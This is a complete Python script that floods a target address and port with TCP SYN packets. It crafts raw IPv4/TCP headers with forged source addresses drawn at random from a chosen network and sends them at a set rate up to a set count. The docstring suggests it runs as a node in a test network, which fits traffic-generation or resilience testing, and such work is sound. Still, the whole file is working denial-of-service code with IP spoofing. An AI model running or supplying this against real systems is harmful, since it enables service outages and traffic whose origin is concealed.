"""A bounded flood of SYNs that nobody will acknowledge, from random addresses of a network. A program of its own, that runs in a node:

    syn_flood.py ADDRESS PORT NETWORK COUNT PER_SECOND

Prints "begun" when a quarter is out, and at its end how many it has sent. Needs a raw socket; the kernel routes the packets and fills in their IPv4 checksums.
"""

import ipaddress
import random
import socket
import struct
import sys
import time

_BATCH_S = 0.01
_TCP_BYTES, _SYN, _WINDOW, _TTL = 20, 2, 64240, 64


def syn(source: int, destination: int, port: int, rng: random.Random) -> bytes:
    """An IPv4 packet (RFC 791) with a SYN and nothing else (RFC 9293 3.1)."""
    ports = (rng.randrange(1024, 65536), port)
    fields = (*ports, rng.getrandbits(32), 0, _TCP_BYTES // 4 << 4, _SYN, _WINDOW)
    pseudo = struct.pack(">IIBBH", source, destination, 0, socket.IPPROTO_TCP, _TCP_BYTES)
    tcp = struct.pack(">HHIIBBHHH", *fields, _checksum(pseudo + struct.pack(">HHIIBBHHH", *fields, 0, 0)), 0)
    total = _TCP_BYTES + 20
    return struct.pack(">BBHHHBBHII", 0x45, 0, total, 0, 0, _TTL, socket.IPPROTO_TCP, 0, source, destination) + tcp


def _checksum(data: bytes) -> int:
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def flood(address: str, port: int, network: str, count: int, per_second: float) -> int:
    rng = random.Random()
    sources = ipaddress.ip_network(network)
    destination = int(ipaddress.ip_address(address))
    sent, began = 0, time.monotonic()
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        while sent < count:
            due = min(count, int((time.monotonic() - began) * per_second) + 1)
            for _ in range(sent, due):
                source = int(sources[rng.randrange(1, sources.num_addresses - 1)])
                raw.sendto(syn(source, destination, port, rng), (address, 0))
            if sent < count // 4 <= due:
                print("begun", flush=True)
            sent = max(sent, due)
            time.sleep(_BATCH_S)
    return sent


if __name__ == "__main__":
    print(flood(sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4]), float(sys.argv[5])))
